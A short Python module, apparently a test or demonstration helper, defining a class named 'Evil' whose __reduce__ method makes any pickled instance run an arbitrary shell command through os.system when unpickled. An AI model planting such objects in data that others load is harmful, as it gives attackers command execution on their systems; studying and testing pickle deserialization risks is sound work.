"""An object that runs a command where it is unpickled."""

import os
from typing import Any


class Evil:
    """See the module."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)
